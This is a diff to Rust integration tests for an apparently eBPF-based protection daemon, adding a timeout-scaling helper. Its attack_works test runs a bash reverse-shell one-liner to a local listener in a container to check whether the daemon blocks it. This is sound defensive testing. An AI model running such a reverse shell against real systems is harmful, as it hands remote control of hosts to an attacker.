@@ -3,6 +3,7 @@
 use crate::container::{Container, Group};
 use crate::daemon::{Daemon, Settings, outcome, program, run_once};
 use crate::lab::Peer;
+use crate::pace;
 use anyhow::{Context, Result, bail, ensure};
 use monitor::kernel::loader::{Kernel, LoadError, Options};
 use rustix::process::Signal;
@@ -93,13 +94,13 @@ pub fn kernel_half_missing() -> Result<()> {
 
 /// One reverse shell in the container; tells whether the attacker's command ran.
 pub fn attack_works(container: &Container) -> Result<bool> {
-    let peer = Peer::shell(container.listen()?, "touch /tmp/effect\nexit\n", Duration::from_secs(3))?;
+    let peer = Peer::shell(container.listen()?, "touch /tmp/effect\nexit\n", pace::wait(Duration::from_secs(3)))?;
     container.run(&format!("rm -f /tmp/effect; bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
     Ok(container.path("/tmp/effect").exists())
 }
 
 fn await_log(daemon: &Daemon, words: &str) -> Result<()> {
-    let deadline = Instant::now() + Duration::from_secs(5);
+    let deadline = Instant::now() + pace::wait(Duration::from_secs(5));
     while !daemon.log().contains(words) {
         ensure!(Instant::now() < deadline, "the log does not say {words:?}:\n{}", daemon.log());
         std::thread::sleep(Duration::from_millis(20));
@@ -121,7 +122,7 @@ pub fn sighup_reload_keeps_old_on_error() -> Result<()> {
     ensure!(attack_works(&container)?, "the good file did not take effect");
     daemon.reload(&daemon.config(&Settings::mode("protect")))?;
     let reloaded = |daemon: &Daemon| daemon.rows().iter().filter(|row| row["event"]["action"] == "reloaded").count();
-    let deadline = Instant::now() + Duration::from_secs(5);
+    let deadline = Instant::now() + pace::wait(Duration::from_secs(5));
     while reloaded(&daemon) < 2 && Instant::now() < deadline {
         std::thread::sleep(Duration::from_millis(20));
     }
@@ -155,7 +156,7 @@ pub fn sigterm_exits_0_and_detaches() -> Result<()> {
     let rows = daemon.rows_after_end();
     ensure!(rows.iter().any(|row| row["event"]["action"] == "stopped"), "no last row");
     ensure!(!daemon.socket().exists(), "the control socket is left behind");
-    let deadline = Instant::now() + Duration::from_secs(5);
+    let deadline = Instant::now() + pace::wait(Duration::from_secs(5));
     loop {
         let loaded: HashSet<u32> = aya::programs::loaded_programs().flatten().map(|program| program.id()).collect();
         let left: Vec<_> = ours.intersection(&loaded).collect();
